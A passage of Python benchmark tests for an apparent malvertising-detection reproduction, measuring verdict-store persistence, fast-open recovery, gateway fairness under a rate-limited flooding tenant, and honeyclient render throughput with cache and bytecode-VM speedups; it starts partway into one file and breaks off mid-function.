    N_NEVER_SEEN = 2_000
else:
    PARAMS = WorldParams(n_top_sites=30, n_bottom_sites=30,
                         n_other_sites=30, n_feed_sites=8,
                         n_benign_campaigns=40, n_malicious_campaigns=8,
                         variants_per_benign=4, variants_per_malicious=2)
    CONFIG = StudyConfig(seed=BENCH_SEED, days=3, refreshes_per_visit=3,
                         world_params=PARAMS)
    N_NEVER_SEEN = 50_000

STORE_CONFIG = StoreConfig(n_shards=4, segment_max_records=64)

#: Warm-start acceptance: the restarted service must skip at least this
#: fraction of the cold run's oracle scans.
SKIP_FLOOR = 0.95


def emit(name: str, payload: dict) -> None:
    print(f"\n{name} {json.dumps(payload, sort_keys=True)}")


def make_service(store_root) -> ScanService:
    return ScanService(ServiceConfig(
        seed=BENCH_SEED, n_workers=2, world_params=PARAMS,
        batch_max_size=8, batch_max_delay=0.01,
        store_path=store_root, store_config=StoreConfig(**vars(STORE_CONFIG))))


def run_crawl(service: ScanService):
    study = Study(StudyConfig(**dict(CONFIG.__dict__)))
    corpus, _, tickets = stream_crawl(
        study.build_crawler(), study.build_schedule(), service)
    service.drain()
    for ticket in tickets.values():
        ticket.result(timeout=120)
    return corpus


class TestStorePersistence:
    def test_warm_start_skips_scans_and_bloom_skips_io(self, tmp_path):
        root = tmp_path / "verdicts"

        # Cold: every unique creative costs one oracle scan.
        started = time.perf_counter()
        with make_service(root) as service:
            corpus = run_crawl(service)
            cold_scans = service.stats()["counters"]["scanned"]
        cold_seconds = time.perf_counter() - started
        unique_ads = corpus.unique_ads
        assert cold_scans == unique_ads

        # Warm: restart from the store, replay the identical crawl.
        started = time.perf_counter()
        with make_service(root) as service:
            recovery = service.store.recovery.to_dict()
            run_crawl(service)
            counters = service.stats()["counters"]
            warm_scans = counters["scanned"]
            store_hits = counters["store_hits"]
        warm_seconds = time.perf_counter() - started
        skip_ratio = 1.0 - warm_scans / cold_scans
        assert skip_ratio >= SKIP_FLOOR, (
            f"warm start still scanned {warm_scans}/{cold_scans} "
            f"creatives ({skip_ratio:.1%} skipped, need >={SKIP_FLOOR:.0%})")
        assert store_hits == unique_ads
        assert recovery["truncated_tails"] == 0  # clean shutdown

        # Bloom front: never-seen probes must not touch a segment.
        store = VerdictStore(root)
        try:
            before = store.stats()
            started = time.perf_counter()
            for i in range(N_NEVER_SEEN):
                digest = hashlib.sha256(b"never-seen-%d" % i).hexdigest()
                assert store.get(digest) is None
            probe_seconds = time.perf_counter() - started
            after = store.stats()
            segment_reads = after["segment_reads"] - before["segment_reads"]
            bloom_negatives = (after["bloom"]["negatives"]
                               - before["bloom"]["negatives"])
            false_positives = (after["bloom"]["false_positives"]
                               - before["bloom"]["false_positives"])
            # Every probe either died in the bloom filter (no I/O at
            # all) or was a bloom false positive answered by the
            # in-memory index — still zero segment reads.
            assert segment_reads == 0
            assert bloom_negatives + false_positives == N_NEVER_SEEN
            assert bloom_negatives >= N_NEVER_SEEN * 0.9
            store_stats = after
        finally:
            store.close()

        emit("STORE_PERSISTENCE_JSON", {
            "workload": {"unique_ads": unique_ads,
                         "n_shards": STORE_CONFIG.n_shards,
                         "segment_max_records":
                             STORE_CONFIG.segment_max_records,
                         "never_seen_probes": N_NEVER_SEEN,
                         "smoke": SMOKE},
            "cold": {"seconds": round(cold_seconds, 3),
                     "oracle_scans": cold_scans},
            "warm": {"seconds": round(warm_seconds, 3),
                     "oracle_scans": warm_scans,
                     "store_hits": store_hits,
                     "skip_ratio": round(skip_ratio, 4)},
            "recovery": recovery,
            "bloom_front": {
                "probe_seconds": round(probe_seconds, 3),
                "probes_per_second": round(
                    N_NEVER_SEEN / probe_seconds) if probe_seconds else None,
                "segment_reads": segment_reads,
                "negatives": bloom_negatives,
                "false_positives": false_positives,
                "estimated_fp_rate": round(
                    store_stats["bloom"]["estimated_fp_rate"], 6)},
            "store": {"records": store_stats["records"],
                      "segments": store_stats["segments"]},
        })
