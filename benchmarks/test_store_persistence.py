"""Verdict-store persistence: warm-start scan skips and bloom-front I/O.

Two benchmarks, emitting ``STORE_PERSISTENCE_JSON`` and
``STORE_FAST_OPEN_JSON`` on stdout, measuring the store claims that
matter operationally:

* **warm start** — a store-backed service that crawled once, shut down
  cleanly and restarted must serve (almost) every repeat creative from
  disk: the warm run's oracle-scan count must be at most 5% of the cold
  run's (in practice it is exactly zero — the corpus is deterministic).
* **bloom front** — probing creatives the store has *never* seen must
  answer from the in-memory bloom filter alone: zero segment reads, as
  counted by the store's own I/O counters, at a probe rate far beyond
  what segment I/O could sustain.
* **fast open** — a cleanly shut-down store with persisted bloom/index
  sidecars must reopen without replaying a single segment, at least
  ``FAST_OPEN_SPEEDUP_FLOOR`` times faster than a full replay of the
  same directory, with a bit-identical fingerprint either way.

Set ``BENCH_SMOKE=1`` (the CI store-smoke job does) to shrink the
workload to seconds; every correctness assertion still runs.
"""

from __future__ import annotations

import hashlib
import json
import os
import time

from repro.core.oracle import AdVerdict
from repro.core.study import Study, StudyConfig
from repro.datasets.world import WorldParams
from repro.oracles.features import BehaviourFeatures
from repro.oracles.wepawet import WepawetReport
from repro.service import ScanService, ServiceConfig, stream_crawl
from repro.store import StoreConfig, VerdictStore

from conftest import BENCH_SEED

SMOKE = os.environ.get("BENCH_SMOKE") == "1"

if SMOKE:
    PARAMS = WorldParams(n_top_sites=8, n_bottom_sites=8,
                         n_other_sites=8, n_feed_sites=2,
                         n_benign_campaigns=10, n_malicious_campaigns=4,
                         variants_per_benign=2, variants_per_malicious=1)
    CONFIG = StudyConfig(seed=BENCH_SEED, days=1, refreshes_per_visit=2,
                         world_params=PARAMS)
    N_NEVER_SEEN = 2_000
else:
    PARAMS = WorldParams(n_top_sites=30, n_bottom_sites=30,
                         n_other_sites=30, n_feed_sites=8,
                         n_benign_campaigns=40, n_malicious_campaigns=8,
                         variants_per_benign=4, variants_per_malicious=2)
    CONFIG = StudyConfig(seed=BENCH_SEED, days=3, refreshes_per_visit=3,
                         world_params=PARAMS)
    N_NEVER_SEEN = 50_000

STORE_CONFIG = StoreConfig(n_shards=4, segment_max_records=64)

#: Warm-start acceptance: the restarted service must skip at least this
#: fraction of the cold run's oracle scans.
SKIP_FLOOR = 0.95

#: Fast-open acceptance: sidecar open must beat full segment replay by
#: at least this factor on a clean many-segment store.
FAST_OPEN_SPEEDUP_FLOOR = 5.0

#: Fast-open workload: enough records to seal well over 50 segments.
FAST_OPEN_RECORDS = 500 if SMOKE else 4_000
FAST_OPEN_CONFIG = StoreConfig(n_shards=4, segment_max_records=16)
FAST_OPEN_REPEATS = 3


def emit(name: str, payload: dict) -> None:
    print(f"\n{name} {json.dumps(payload, sort_keys=True)}")


def make_service(store_root) -> ScanService:
    return ScanService(ServiceConfig(
        seed=BENCH_SEED, n_workers=2, world_params=PARAMS,
        batch_max_size=8, batch_max_delay=0.01,
        store_path=store_root, store_config=StoreConfig(**vars(STORE_CONFIG))))


def run_crawl(service: ScanService):
    study = Study(StudyConfig(**dict(CONFIG.__dict__)))
    corpus, _, tickets = stream_crawl(
        study.build_crawler(), study.build_schedule(), service)
    service.drain()
    for ticket in tickets.values():
        ticket.result(timeout=120)
    return corpus


class TestStorePersistence:
    def test_warm_start_skips_scans_and_bloom_skips_io(self, tmp_path):
        root = tmp_path / "verdicts"

        # Cold: every unique creative costs one oracle scan.
        started = time.perf_counter()
        with make_service(root) as service:
            corpus = run_crawl(service)
            cold_scans = service.stats()["counters"]["scanned"]
        cold_seconds = time.perf_counter() - started
        unique_ads = corpus.unique_ads
        assert cold_scans == unique_ads

        # Warm: restart from the store, replay the identical crawl.
        started = time.perf_counter()
        with make_service(root) as service:
            recovery = service.store.recovery.to_dict()
            run_crawl(service)
            counters = service.stats()["counters"]
            warm_scans = counters["scanned"]
            store_hits = counters["store_hits"]
        warm_seconds = time.perf_counter() - started
        skip_ratio = 1.0 - warm_scans / cold_scans
        assert skip_ratio >= SKIP_FLOOR, (
            f"warm start still scanned {warm_scans}/{cold_scans} "
            f"creatives ({skip_ratio:.1%} skipped, need >={SKIP_FLOOR:.0%})")
        assert store_hits == unique_ads
        assert recovery["truncated_tails"] == 0  # clean shutdown

        # Bloom front: never-seen probes must not touch a segment.
        store = VerdictStore(root)
        try:
            before = store.stats()
            started = time.perf_counter()
            for i in range(N_NEVER_SEEN):
                digest = hashlib.sha256(b"never-seen-%d" % i).hexdigest()
                assert store.get(digest) is None
            probe_seconds = time.perf_counter() - started
            after = store.stats()
            segment_reads = after["segment_reads"] - before["segment_reads"]
            bloom_negatives = (after["bloom"]["negatives"]
                               - before["bloom"]["negatives"])
            false_positives = (after["bloom"]["false_positives"]
                               - before["bloom"]["false_positives"])
            # Every probe either died in the bloom filter (no I/O at
            # all) or was a bloom false positive answered by the
            # in-memory index — still zero segment reads.
            assert segment_reads == 0
            assert bloom_negatives + false_positives == N_NEVER_SEEN
            assert bloom_negatives >= N_NEVER_SEEN * 0.9
            store_stats = after
        finally:
            store.close()

        emit("STORE_PERSISTENCE_JSON", {
            "workload": {"unique_ads": unique_ads,
                         "n_shards": STORE_CONFIG.n_shards,
                         "segment_max_records":
                             STORE_CONFIG.segment_max_records,
                         "never_seen_probes": N_NEVER_SEEN,
                         "smoke": SMOKE},
            "cold": {"seconds": round(cold_seconds, 3),
                     "oracle_scans": cold_scans},
            "warm": {"seconds": round(warm_seconds, 3),
                     "oracle_scans": warm_scans,
                     "store_hits": store_hits,
                     "skip_ratio": round(skip_ratio, 4)},
            "recovery": recovery,
            "bloom_front": {
                "probe_seconds": round(probe_seconds, 3),
                "probes_per_second": round(
                    N_NEVER_SEEN / probe_seconds) if probe_seconds else None,
                "segment_reads": segment_reads,
                "negatives": bloom_negatives,
                "false_positives": false_positives,
                "estimated_fp_rate": round(
                    store_stats["bloom"]["estimated_fp_rate"], 6)},
            "store": {"records": store_stats["records"],
                      "segments": store_stats["segments"]},
        })


def _fast_open_verdict(i: int) -> AdVerdict:
    features = BehaviourFeatures(**{
        name: i + j for j, name in enumerate(BehaviourFeatures.names())})
    report = WepawetReport(
        sample_id=f"bench-{i:06d}",
        features=features,
        suspicious_redirection=bool(i % 2),
        redirection_reasons=(f"reason-{i}",),
        driveby_heuristic=bool(i % 3 == 0),
        heuristic_reasons=(),
        model_detection=False,
        model_score=(i % 100) / 100.0,
    )
    return AdVerdict(ad_id=f"bench-{i:06d}", wepawet=report)


def _fast_open_key(i: int) -> str:
    return hashlib.sha256(b"fast-open-%d" % i).hexdigest()


def _timed_open(root, fast_open: bool):
    """Best-of-``FAST_OPEN_REPEATS`` clean open, returning stats too."""
    best = None
    fingerprint = recovery = segments = None
    config = StoreConfig(
        n_shards=FAST_OPEN_CONFIG.n_shards,
        segment_max_records=FAST_OPEN_CONFIG.segment_max_records,
        fast_open=fast_open)
    for _ in range(FAST_OPEN_REPEATS):
        started = time.perf_counter()
        store = VerdictStore(root, config)
        elapsed = time.perf_counter() - started
        try:
            if best is None or elapsed < best:
                best = elapsed
            fingerprint = store.fingerprint()
            recovery = store.recovery.to_dict()
            segments = store.stats()["segments"]
        finally:
            store.close()
    return best, fingerprint, recovery, segments


class TestStoreFastOpen:
    def test_sidecar_open_beats_full_replay(self, tmp_path):
        root = tmp_path / "fast-open"

        # Build a clean many-segment store, sidecars written at seal.
        store = VerdictStore(root, StoreConfig(**vars(FAST_OPEN_CONFIG)))
        try:
            for i in range(FAST_OPEN_RECORDS):
                store.put(_fast_open_key(i), _fast_open_verdict(i))
            sidecar_writes = store.stats()["sidecar_writes"]
        finally:
            store.close()

        fast_seconds, fast_fp, fast_recovery, segments = _timed_open(
            root, fast_open=True)
        replay_seconds, replay_fp, replay_recovery, _ = _timed_open(
            root, fast_open=False)

        # Fast open must really have skipped the replay, and both open
        # paths must materialise the identical store.
        assert fast_recovery["fast_open"] == 1
        assert fast_recovery["segments_scanned"] == 0
        assert fast_recovery["sidecars_used"] > 0
        assert replay_recovery["fast_open"] == 0
        assert replay_recovery["segments_scanned"] > 0
        assert fast_fp == replay_fp

        sealed = fast_recovery["sidecars_used"]
        if not SMOKE:
            assert sealed >= 50, (
                f"workload only sealed {sealed} segments; the fast-open "
                f"floor is meaningless below 50")
            speedup = replay_seconds / fast_seconds
            assert speedup >= FAST_OPEN_SPEEDUP_FLOOR, (
                f"fast open only {speedup:.2f}x full replay "
                f"(floor {FAST_OPEN_SPEEDUP_FLOOR:.0f}x)")

        emit("STORE_FAST_OPEN_JSON", {
            "workload": {"records": FAST_OPEN_RECORDS,
                         "n_shards": FAST_OPEN_CONFIG.n_shards,
                         "segment_max_records":
                             FAST_OPEN_CONFIG.segment_max_records,
                         "sealed_segments": sealed,
                         "segments": segments,
                         "sidecar_writes": sidecar_writes,
                         "smoke": SMOKE},
            "fast_open": {"seconds": round(fast_seconds, 4),
                          "recovery": fast_recovery},
            "full_replay": {"seconds": round(replay_seconds, 4),
                            "recovery": replay_recovery},
            "speedup": round(replay_seconds / fast_seconds, 2),
            "floor": {"fast_open_speedup": FAST_OPEN_SPEEDUP_FLOOR,
                      "enforced": not SMOKE},
            "fingerprints_identical": fast_fp == replay_fp,
        })
