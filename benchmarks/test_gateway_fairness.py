"""Gateway fairness under a flooding tenant, as one JSON-emitting bench.

The scenario the gateway exists for: a well-behaved *victim* tenant
(``interactive`` priority, modest volume) shares the front door with a
*flooder* (``best_effort``) that submits at **10× its rate limit**.  The
service behind them is deliberately bottlenecked (one worker, a tiny
ingest queue) so the admission buffer — where weighted-fair scheduling
lives — carries a real backlog.

Two claims are asserted against a solo baseline of the victim running
alone on an identical service:

* the victim's completed-scan throughput stays within ``2×`` of solo;
* the victim's admission p99 latency stays within ``2×`` of solo;

and the flooder's refusals are *exact*: with the rate window much longer
than the bench, round 0 of its burst admits precisely ``limit``
submissions and every later round is throttled, so the per-tenant
counters are closed-form numbers, not approximations.

Emits ``GATEWAY_FAIRNESS_JSON {...}`` on stdout.  Set ``BENCH_SMOKE=1``
to shrink the workload and skip the 2× floors (counter exactness and
JSON shape are still asserted).
"""

from __future__ import annotations

import json
import os
import time

import pytest

from repro.core.study import Study, StudyConfig
from repro.datasets.world import WorldParams
from repro.gateway import (
    GatewayConfig,
    RateLimitedError,
    ScanGateway,
    Tenant,
)
from repro.service import ScanService, ServiceConfig

from conftest import BENCH_SEED

SMOKE = os.environ.get("BENCH_SMOKE") == "1"

# Victim volume / flooder rate limit; the flooder attempts 10x its limit.
VICTIM_ADS = 12 if SMOKE else 60
FLOODER_LIMIT = 24 if SMOKE else 110
FLOOD_ROUNDS = 10
# Longer than any bench run, so throttle decisions are exact counts.
FLOOD_WINDOW = 10_000.0

FAIRNESS_FLOOR = 2.0  # contested victim must stay within 2x of solo

PARAMS = WorldParams(n_top_sites=24, n_bottom_sites=24, n_other_sites=24,
                     n_feed_sites=6, n_benign_campaigns=48,
                     n_malicious_campaigns=12, variants_per_benign=4,
                     variants_per_malicious=2)


def service_config() -> ServiceConfig:
    # One worker + a 4-deep ingest queue: the scan pool is the
    # bottleneck, so admitted work queues *in the gateway*, which is the
    # layer under test.
    return ServiceConfig(seed=BENCH_SEED, n_workers=1, queue_capacity=4,
                         world_params=PARAMS, batch_max_size=2,
                         batch_max_delay=0.002)


@pytest.fixture(scope="module")
def record_sets():
    corpus = Study(StudyConfig(seed=BENCH_SEED, days=2,
                               refreshes_per_visit=3,
                               world_params=PARAMS)).crawl().corpus
    unique, seen = [], set()
    for record in corpus.records():
        if record.content_hash not in seen:
            seen.add(record.content_hash)
            unique.append(record)
    needed = FLOODER_LIMIT + VICTIM_ADS
    assert len(unique) >= needed, (len(unique), needed)
    return unique[:FLOODER_LIMIT], unique[FLOODER_LIMIT:needed]


def victim_tenant() -> Tenant:
    return Tenant("victim", priority="interactive", rate_limit=None)


def run_victim(gateway: ScanGateway, key: str, records) -> dict:
    """Submit the victim's records and block until its last verdict."""
    started = time.perf_counter()
    tickets = [gateway.submit_record(key, record) for record in records]
    for ticket in tickets:
        ticket.result(timeout=120)
    elapsed = time.perf_counter() - started
    return {"elapsed": elapsed, "throughput": len(records) / elapsed}


class TestGatewayFairness:
    def test_flooded_victim_stays_within_2x_of_solo(self, record_sets):
        flooder_records, victim_records = record_sets

        # -- solo baseline: the victim alone on an identical stack ------
        with ScanService(service_config()) as service:
            gateway = ScanGateway(service, config=GatewayConfig())
            key = gateway.register_tenant(victim_tenant())
            solo = run_victim(gateway, key, victim_records)
            gateway.drain(timeout=120)
            solo_p99 = gateway.tenant_rollup(
                "victim")["admission_latency"]["p99"]

        # -- contested: flooder bursts 10x its limit, then the victim --
        with ScanService(service_config()) as service:
            gateway = ScanGateway(service, config=GatewayConfig())
            victim_key = gateway.register_tenant(victim_tenant())
            flooder_key = gateway.register_tenant(Tenant(
                "flooder", priority="best_effort",
                rate_limit=FLOODER_LIMIT, rate_window=FLOOD_WINDOW))
            throttled = 0
            for _ in range(FLOOD_ROUNDS):
                for record in flooder_records:
                    try:
                        gateway.submit_record(flooder_key, record)
                    except RateLimitedError:
                        throttled += 1
            contested = run_victim(gateway, victim_key, victim_records)
            gateway.drain(timeout=120)
            victim_rollup = gateway.tenant_rollup("victim")
            flooder_rollup = gateway.tenant_rollup("flooder")
            stats = gateway.stats()
        contested_p99 = victim_rollup["admission_latency"]["p99"]

        # -- the flooder's refusals are closed-form exact ---------------
        expected_throttled = (FLOOD_ROUNDS - 1) * FLOODER_LIMIT
        assert throttled == expected_throttled
        assert flooder_rollup["counters"]["throttled"] == expected_throttled
        assert flooder_rollup["counters"]["admitted"] == FLOODER_LIMIT
        assert flooder_rollup["counters"]["submitted"] == FLOODER_LIMIT
        assert flooder_rollup["usage"]["fresh_scans"] == FLOODER_LIMIT
        assert stats["totals"]["gateway_throttled"] == expected_throttled
        # The victim was never refused anything.
        assert victim_rollup["counters"]["admitted"] == len(victim_records)
        assert victim_rollup["counters"].get("throttled", 0) == 0
        assert victim_rollup["usage"]["quota_rejections"] == 0

        payload = {
            "config": {
                "victim_ads": len(victim_records),
                "flooder_limit": FLOODER_LIMIT,
                "flood_rounds": FLOOD_ROUNDS,
                "smoke": SMOKE,
            },
            "solo": {
                "throughput_ads_per_s": round(solo["throughput"], 1),
                "admission_p99_s": round(solo_p99, 6),
            },
            "contested": {
                "throughput_ads_per_s": round(contested["throughput"], 1),
                "admission_p99_s": round(contested_p99, 6),
                "victim_slowdown": round(
                    contested["elapsed"] / solo["elapsed"], 3),
            },
            "flooder": {
                "admitted": FLOODER_LIMIT,
                "throttled": expected_throttled,
            },
            "floors": {"enforced": not SMOKE, "max_ratio": FAIRNESS_FLOOR},
        }
        print(f"\nGATEWAY_FAIRNESS_JSON {json.dumps(payload, sort_keys=True)}")

        if SMOKE:
            return
        assert contested["throughput"] * FAIRNESS_FLOOR >= \
            solo["throughput"], payload["contested"]
        # Guard the degenerate case where nothing ever queued (p99 ~ 0):
        # only ratio-check latencies that are measurably nonzero.
        if solo_p99 > 1e-4:
            assert contested_p99 <= solo_p99 * FAIRNESS_FLOOR, \
                payload["contested"]
