"""Benchmark: every paper shape claim, machine-checked in one place.

``repro.core.comparison`` codifies the EXPERIMENTS.md claims; this bench
runs all of them against the shared bench-scale study.  A calibration
regression fails here with the specific claim named.
"""

from repro.core.comparison import compare_to_paper


def test_all_shape_claims(bench_results, benchmark):
    report = benchmark(compare_to_paper, bench_results)
    print("\n" + report.render())
    failing = report.failing()
    assert report.all_hold, \
        f"claims failing: {[claim.claim_id for claim in failing]}"
