"""Scan throughput: cold vs. warm-cache honeyclient renders.

The Wepawet honeyclient re-renders every unique creative, and the crawler
re-renders every page five times per visit — so the render/scan hot path
sees the same markup and the same scripts over and over.  This benchmark
measures what the hash-addressed compile caches (DESIGN §11) buy on that
re-render workload:

* **cold pass** — every cache empty: each render lexes + parses its
  script and tokenizes its HTML from scratch (and pays the cache fills).
* **warm pass** — the same creatives again: every compile is a cache hit.

Both passes must produce identical behavioural reports (the caches are an
optimisation, not an observable); the ≥2× warm-over-cold floor is only
asserted when the caches actually claim hits and ``BENCH_SMOKE`` is off.
The floor is hardware-independent — the comparison is single-threaded on
both sides — so unlike the crawl-throughput floor it is not core-gated.

Emits a ``SCAN_THROUGHPUT_JSON`` line for the perf dashboard.

A second benchmark compares the AdScript engines (DESIGN §13) on
script-heavy creatives: the same render workload under
``REPRO_ADSCRIPT_VM=tree`` vs ``bytecode``, warm caches and
single-threaded on both sides, so the ≥1.5× VM-over-tree floor is
hardware-independent.  Emits ``ADSCRIPT_VM_JSON``.

A third benchmark measures the VM's warm hot-path pass (DESIGN §16):
the same script-heavy workload on the bytecode VM with
``REPRO_ADSCRIPT_FUSION`` off vs on (superinstructions + inline
caches), warm caches and single-threaded on both sides, so the ≥1.2×
fused-over-unfused floor is hardware-independent.  Emits
``VM_HOTPATH_JSON``.
"""

from __future__ import annotations

import json
import os
import time

from repro.datasets.world import WorldParams, build_world
from repro.oracles.wepawet import Wepawet
from repro.util.lru import cache_stats, clear_all_caches

from conftest import BENCH_SEED

SMOKE = os.environ.get("BENCH_SMOKE") == "1"

# Required warm-over-cold render speedup once the caches claim hits.
WARM_SPEEDUP_FLOOR = 2.0

# Required bytecode-VM-over-tree-walker render speedup on script-heavy
# creatives (both engines warm-cached and single-threaded).
VM_SPEEDUP_FLOOR = 1.5

# Required fused-over-unfused speedup for the VM hot-path pass
# (superinstructions + inline caches), warm and single-threaded.
FUSION_SPEEDUP_FLOOR = 1.2

if SMOKE:
    N_CREATIVES = 8
    LIB_FUNCTIONS = 60
    N_HEAVY_CREATIVES = 3
    HEAVY_ITERATIONS = 150
    HOTPATH_ITERATIONS = 200
else:
    N_CREATIVES = 30
    LIB_FUNCTIONS = 150
    N_HEAVY_CREATIVES = 8
    HEAVY_ITERATIONS = 900
    HOTPATH_ITERATIONS = 2500


def emit(name: str, payload: dict) -> None:
    print(f"\n{name} {json.dumps(payload, sort_keys=True)}")


def _script_library() -> str:
    """A template ad-tag library: big to parse, cheap to execute.

    Mirrors real ad tags, where a creative ships a large shared runtime
    (rendering, tracking, consent plumbing) and a tiny per-unit driver.
    """
    parts = []
    for i in range(LIB_FUNCTIONS):
        parts.append(
            f"function helper{i}(x) {{\n"
            f"  var acc = x + {i};\n"
            f"  for (var j = 0; j < 3; j++) {{ acc = acc + j * {i % 7}; }}\n"
            f"  if (acc % 2 === 0) {{ acc = acc + 1; }}\n"
            f"  return acc;\n"
            f"}}")
    return "\n".join(parts)


_LIBRARY = _script_library()


def _creative(index: int) -> str:
    # Each creative gets a unique driver so the cold pass never hits the
    # program cache: pass 1 compiles N distinct scripts, pass 2 re-renders
    # the same N (the honeyclient / refresh scenario).
    return (
        "<html><head><title>unit</title></head><body>"
        f"<div id='slot{index}' class='ad-unit'>creative {index}</div>"
        f"<script>{_LIBRARY}\n"
        f"var unit = {index};\n"
        f"var total = helper{index % LIB_FUNCTIONS}(unit) + helper0(unit);\n"
        f"document.write('<span>' + total + '</span>');"
        "</script></body></html>"
    )


def _render_pass(wepawet: Wepawet, creatives: list[str]):
    reports = []
    started = time.perf_counter()
    for html in creatives:
        reports.append(wepawet.analyze_html(html))
    return time.perf_counter() - started, reports


def _report_key(report):
    """Everything observable about a render except the minted sample id."""
    return (
        report.features,
        report.suspicious_redirection,
        report.redirection_reasons,
        report.driveby_heuristic,
        report.heuristic_reasons,
        report.model_detection,
        round(report.model_score, 12),
        report.contacted_domains,
        len(report.downloads),
    )


class TestScanThroughput:
    def test_warm_cache_renders_beat_cold(self):
        world = build_world(seed=BENCH_SEED, params=WorldParams(
            n_top_sites=4, n_bottom_sites=4, n_other_sites=4, n_feed_sites=2))
        wepawet = Wepawet(world.client, world.resolver)
        creatives = [_creative(i) for i in range(N_CREATIVES)]

        clear_all_caches()
        cold_time, cold_reports = _render_pass(wepawet, creatives)
        # Warm renders land on whichever compile cache the engine consults
        # first: adscript_bytecode under the VM (the AST cache is skipped
        # entirely), adscript_programs under the tree walker.
        compile_caches = ("adscript_programs", "adscript_bytecode")
        hits_after_cold = sum(
            cache_stats().get(name, {}).get("hits", 0)
            for name in compile_caches)

        warm_time, warm_reports = _render_pass(wepawet, creatives)
        stats = cache_stats()
        warm_hits = sum(
            stats.get(name, {}).get("hits", 0)
            for name in compile_caches) - hits_after_cold

        # The caches must be invisible in the reports.
        assert [_report_key(r) for r in cold_reports] == \
            [_report_key(r) for r in warm_reports]

        speedup = cold_time / warm_time if warm_time > 0 else float("inf")
        floor_applies = not SMOKE and warm_hits >= N_CREATIVES
        emit("SCAN_THROUGHPUT_JSON", {
            "workload": {"creatives": N_CREATIVES,
                         "library_functions": LIB_FUNCTIONS,
                         "smoke": SMOKE},
            "cold": {"seconds": round(cold_time, 3),
                     "renders_per_sec": round(N_CREATIVES / cold_time, 1)},
            "warm": {"seconds": round(warm_time, 3),
                     "renders_per_sec": round(N_CREATIVES / warm_time, 1)},
            "speedup": round(speedup, 2),
            # The regex cache only registers once a script compiles a
            # pattern; this workload does not, so it may be absent.
            "cache_hits": {
                name: cache["hits"]
                for name, cache in sorted(stats.items())
                if name.startswith(("adscript", "html", "url"))
            },
            "floor": {"warm_speedup": WARM_SPEEDUP_FLOOR,
                      "enforced": floor_applies,
                      "measured": round(speedup, 2)},
        })

        # Warm renders must actually hit: one program compile per creative
        # in the cold pass, zero in the warm pass.
        assert warm_hits >= N_CREATIVES
        if floor_applies:
            assert speedup >= WARM_SPEEDUP_FLOOR, (
                f"warm renders only {speedup:.2f}x cold "
                f"(floor {WARM_SPEEDUP_FLOOR}x)")


def _heavy_creative(index: int) -> str:
    """A creative whose cost is execution, not compilation.

    Busy arithmetic/string loops well under the honeyclient step budget —
    the profile where a flat dispatch loop beats tree re-walking, since
    every iteration re-visits the same nodes.
    """
    return (
        "<html><head><title>heavy</title></head><body>"
        f"<div id='slot{index}' class='ad-unit'>heavy {index}</div>"
        "<script>"
        f"var acc = {index};\n"
        "var tag = '';\n"
        f"for (var i = 0; i < {HEAVY_ITERATIONS}; i++) {{\n"
        f"  acc = (acc + i * {index % 5 + 2}) % 9973;\n"
        "  if (acc % 3 === 0) { acc += i & 7; } else { acc -= 1; }\n"
        "  if (i % 64 === 0) { tag = tag + '.'; }\n"
        "}\n"
        "function mix(seed) {\n"
        "  var h = seed;\n"
        "  for (var k = 0; k < 40; k++) { h = (h * 31 + k) % 65521; }\n"
        "  return h;\n"
        "}\n"
        f"var digest = mix(acc) + mix({index});\n"
        "document.write('<span>' + digest + tag.length + '</span>');"
        "</script></body></html>"
    )


def _engine_pass(engine: str, creatives: list[str]):
    """One warm single-threaded render pass with ``engine`` selected.

    A fresh Wepawet per pass keeps the comparison symmetric; the compile
    caches are pre-warmed with an untimed render of each creative so the
    timed pass measures pure execution, not parse/compile.
    """
    previous = os.environ.get("REPRO_ADSCRIPT_VM")
    os.environ["REPRO_ADSCRIPT_VM"] = engine
    try:
        world = build_world(seed=BENCH_SEED, params=WorldParams(
            n_top_sites=4, n_bottom_sites=4, n_other_sites=4, n_feed_sites=2))
        wepawet = Wepawet(world.client, world.resolver)
        _render_pass(wepawet, creatives)  # warm the caches, untimed
        return _render_pass(wepawet, creatives)
    finally:
        if previous is None:
            os.environ.pop("REPRO_ADSCRIPT_VM", None)
        else:
            os.environ["REPRO_ADSCRIPT_VM"] = previous


class TestAdscriptVmThroughput:
    def test_bytecode_vm_beats_tree_walker(self):
        creatives = [_heavy_creative(i) for i in range(N_HEAVY_CREATIVES)]

        clear_all_caches()
        tree_time, tree_reports = _engine_pass("tree", creatives)
        clear_all_caches()
        vm_time, vm_reports = _engine_pass("bytecode", creatives)
        vm_compile_hits = cache_stats()["adscript_bytecode"]["hits"]

        # The engines must be indistinguishable in the reports.
        assert [_report_key(r) for r in tree_reports] == \
            [_report_key(r) for r in vm_reports]

        speedup = tree_time / vm_time if vm_time > 0 else float("inf")
        floor_applies = not SMOKE
        emit("ADSCRIPT_VM_JSON", {
            "workload": {"creatives": N_HEAVY_CREATIVES,
                         "loop_iterations": HEAVY_ITERATIONS,
                         "smoke": SMOKE},
            "tree": {"seconds": round(tree_time, 3),
                     "renders_per_sec": round(N_HEAVY_CREATIVES / tree_time, 1)
                     if tree_time > 0 else None},
            "bytecode": {"seconds": round(vm_time, 3),
                         "renders_per_sec": round(N_HEAVY_CREATIVES / vm_time, 1)
                         if vm_time > 0 else None},
            "speedup": round(speedup, 2),
            "bytecode_cache_hits": vm_compile_hits,
            "floor": {"vm_speedup": VM_SPEEDUP_FLOOR,
                      "enforced": floor_applies,
                      "measured": round(speedup, 2)},
        })

        # The timed VM pass must run from cached CodeObjects.
        assert vm_compile_hits >= N_HEAVY_CREATIVES
        if floor_applies:
            assert speedup >= VM_SPEEDUP_FLOOR, (
                f"bytecode VM only {speedup:.2f}x tree walker "
                f"(floor {VM_SPEEDUP_FLOOR}x)")


def _hotpath_creative(index: int) -> str:
    """A creative whose loop body is almost entirely fusable pairs/triples.

    Expressions are shaped the way ad-tag hot loops come out of the
    compiler — ``i * 3 + acc`` is LOAD/CONST/MUL then LOAD/ADD, which the
    peephole pass folds to two superinstructions — and the loop lives in
    a function so every load is a slot access: with the operand loads
    cheap, dispatch overhead (what fusion removes) dominates the loop.
    """
    return (
        "<html><head><title>hot</title></head><body>"
        f"<div id='slot{index}' class='ad-unit'>hot {index}</div>"
        "<script>"
        "function hot(seed, lim) {\n"
        "  var acc = seed;\n"
        "  var t = 0;\n"
        "  for (var i = 0; i < lim; i++) {\n"
        "    acc = i * 3 + acc;\n"
        "    acc = acc % 65521;\n"
        "    t = acc * 2 + t;\n"
        "    t = t % 9973;\n"
        "    if (acc === 7) { t = t + 1; }\n"
        "    if (t < 13) { t = 13 - t; }\n"
        "  }\n"
        "  return acc + t;\n"
        "}\n"
